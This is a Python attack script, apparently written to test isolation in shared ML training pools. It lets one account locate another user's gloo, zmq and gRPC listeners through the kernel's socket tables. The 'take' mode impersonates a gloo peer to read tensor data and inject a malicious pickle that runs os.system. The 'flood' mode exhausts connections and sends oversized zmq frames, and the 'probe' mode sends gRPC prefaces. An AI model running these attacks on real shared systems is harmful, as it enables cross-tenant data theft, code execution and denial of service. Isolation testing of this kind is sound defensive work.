"""Another ordinary account attacks an account's pool through gloo:

    python3 intruder_gloo.py take|flood OWNER_UID SECONDS SECRET MARKER

Stdlib only (it cannot import the owner's packages). The kernel tells every account who owns each
socket (/proc/net/tcp, or sock_diag, faster): it watches for the owner's listening sockets (gloo
makes one per group, on the machine's loopback where the pool has no network of its own) and, at
each new one, at once:

take    takes pairs: connects with the sequence numbers gloo gives its first pairs (0..3), then
        plays a gloo peer (gloo/transport/tcp/pair.cc): answers "ready to send" with "ready to
        receive" and reads what the rank sends, answers "ready to receive" by sending its own bytes
        (a pickle that would create MARKER if anything loaded it, repeated). Reports the bytes read
        and whether the float32 SECRET was among them.
flood   at every listener, new or old, again and again: connections that say nothing (half-open),
        connections that send 8 bytes (a number no pair asks for: gloo keeps each, a descriptor),
        junk and pickles, and an oversized zmq message (a ZMTP 3.0 greeting, then 4 MiB frames,
        256 MiB in one message).
probe   at every listener, new or old, once a second: connects to the address it is bound to (TensorFlow's
        gRPC server listens on all of them, JAX's coordinator on one) and speaks first as a gRPC client
        does (the HTTP/2 preface, to which a gRPC server answers at once with its SETTINGS): counts
        the connections and the bytes any listener answered with.

Prints a JSON report."""
import json
import os
import pickle
import socket
import struct
import sys
import threading
import time

PRE = struct.Struct("<6Q")  # gloo's op preamble: nbytes, opcode, slot, offset, length, roffset


class Evil:
    def __init__(self, marker):
        self.marker = marker

    def __reduce__(self):
        return (os.system, (f"touch {self.marker}",))


def listeners(owner, bound=False):
    """(inode, host, port) of the owner's listening TCP sockets: asked of the kernel through netlink
    (sock_diag, as `ss` does, which any account may), fast however many sockets the machine has;
    /proc/net/tcp says the same, slower. host: loopback, or (bound) the address each is bound to
    (loopback for any address)."""
    found = []
    for family, host in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")):
        request = struct.pack("=BBBBI", family, socket.IPPROTO_TCP, 0, 0, 1 << 10) + bytes(48)  # LISTEN only
        with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 4) as s:
            s.send(struct.pack("=IHHII", 16 + len(request), 20, 0x301, 1, 0) + request)
            done = False
            while not done:
                data, off = s.recv(1 << 16), 0
                while off + 16 <= len(data):
                    length, kind = struct.unpack_from("=IH", data, off)
                    if kind in (2, 3):
                        done = True
                        break
                    port = struct.unpack_from(">H", data, off + 20)[0]
                    uid, inode = struct.unpack_from("=II", data, off + 80)
                    if uid == owner:
                        found.append((inode, _bound(family, data[off + 24:off + 40]) if bound else host, port))
                    off += (length + 3) & ~3
                done |= not data
    return found


def _bound(family, raw):
    host = socket.inet_ntop(family, raw[:4] if family == socket.AF_INET else raw)
    if host.startswith("::ffff:") and "." in host:
        host = host[7:]
    return "127.0.0.1" if host in ("0.0.0.0", "::") else host


def play(sock, inject, seconds, report, pattern, lock):
    """Act as a gloo pair on `sock` for `seconds`."""
    sock.settimeout(0.2)
    buf, end = b"", time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            data = sock.recv(1 << 20)
        except TimeoutError:
            continue
        except OSError:
            return
        if not data:
            return
        buf += data
        with lock:
            report["bytes_read"] += len(data)
        while len(buf) >= PRE.size:
            nbytes, opcode, slot, _, length, _ = PRE.unpack_from(buf)
            if nbytes < PRE.size or nbytes > 1 << 28 or len(buf) < nbytes:
                break
            payload, buf = buf[PRE.size:nbytes], buf[nbytes:]
            try:
                if opcode == 2:  # it wants to send: ready to receive
                    sock.sendall(PRE.pack(PRE.size, 3, slot, 0, length, 0))
                elif opcode == 3:  # it wants to receive: ours
                    data = (inject * (length // len(inject) + 1))[:length]
                    sock.sendall(PRE.pack(PRE.size, 2, slot, 0, length, 0) + PRE.pack(PRE.size + length, 1, slot, 0,
                                                                                        length, 0) + data)
                    with lock:
                        report["injected"] += 1
                elif opcode == 1:
                    with lock:
                        report["tensor_bytes"] += len(payload)
                        report["secret"] |= pattern in payload
            except OSError:
                return


def connect(host, port, timeout=1.0):
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(timeout)
    s.connect((host, port))
    return s


def take(host, port, inject, pattern, report, lock, held):
    players = []
    for seq in range(4):  # with the numbers gloo gives first
        try:
            s = connect(host, port)
            s.sendall(struct.pack("<Q", seq))
        except OSError:
            _count(report, lock, "refused")
            continue
        _count(report, lock, "connected")
        players.append(threading.Thread(target=play, args=(s, inject, 4.0, report, pattern, lock), daemon=True))
        players[-1].start()
        held.append(s)
    for t in players:
        t.join()


def flood(host, port, inject, pattern, report, lock, held):
    opened = []
    for _ in range(300):  # opened at once, without waiting for them
        s = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        s.connect_ex((host, port))
        opened.append(s)
    time.sleep(0.3)
    for i, s in enumerate(opened):  # a third say nothing (half-open), a third 8 bytes, a third junk or a pickle
        try:
            s.getpeername()  # connected?
            if i % 3 == 1:
                s.send(os.urandom(8))
            elif i % 3 == 2:
                s.send(inject[:512] if i % 2 else os.urandom(200))
            _count(report, lock, "flood")
        except OSError:
            _count(report, lock, "refused")
    held.extend(opened)
    try:  # an oversized multi-frame zmq message
        s = connect(host, port)
        s.sendall(b"\xff" + b"\x00" * 8 + b"\x7f\x03\x00" + b"NULL".ljust(20, b"\x00") + b"\x00" * 32)
        frame = b"\x03" + struct.pack(">Q", 4 << 20) + os.urandom(16) * (1 << 18)  # a long frame, "more" set
        for _ in range(64):
            s.sendall(frame)
        _count(report, lock, "oversized")
        s.close()
    except OSError:
        _count(report, lock, "refused")


PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\x00\x00\x00\x04\x00\x00\x00\x00\x00"  # + an empty SETTINGS


def probe(host, port, inject, pattern, report, lock, held):
    try:
        s = connect(host, port)
    except OSError:
        _count(report, lock, "refused")
        return
    _count(report, lock, "connected")
    with lock:
        report["ports"][str(port)] = report["ports"].get(str(port), 0) + 1
    try:
        s.sendall(PREFACE)
        s.settimeout(1.0)
        data = s.recv(1 << 16)
    except OSError:  # (reset: closed by the gate, as it should be)
        data = b""
    finally:
        s.close()
    if data:
        with lock:
            report["answered"] += 1
            report["bytes_read"] += len(data)


def _count(report, lock, key):
    with lock:
        report[key] += 1


def main(mode, owner, seconds, secret, marker):
    import resource

    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))  # as many connections as it may hold
    owner, seconds = int(owner), float(seconds)
    pattern = struct.pack("<f", float(secret)) * 8
    inject = pickle.dumps([Evil(marker)] * 4)
    attack = {"take": take, "flood": flood, "probe": probe}[mode]
    report = {"uid": os.getuid(), "listeners": 0, "connected": 0, "flood": 0, "oversized": 0, "refused": 0,
              "bytes_read": 0, "tensor_bytes": 0, "injected": 0, "secret": False, "answered": 0, "ports": {}}
    lock, held, seen, threads = threading.Lock(), [], {}, []
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        now = time.monotonic()
        for inode, host, port in listeners(owner, bound=mode == "probe"):
            again = mode in ("flood", "probe") and now - seen.get(inode, now) > {"flood": 2.0, "probe": 1.0}.get(mode)
            if inode not in seen or again:
                report["listeners"] += inode not in seen
                seen[inode] = now
                threads.append(threading.Thread(target=attack, args=(host, port, inject, pattern, report, lock, held),
                                                daemon=True))
                threads[-1].start()
        time.sleep(0.0002 if mode == "take" else 0.05)
        while len(held) > 6000:  # (its own descriptors: let the oldest go)
            held.pop(0).close()
    for t in threads:
        t.join(10)
    for s in held:
        s.close()
    print(json.dumps(report))


if __name__ == "__main__":
    main(*sys.argv[1:])
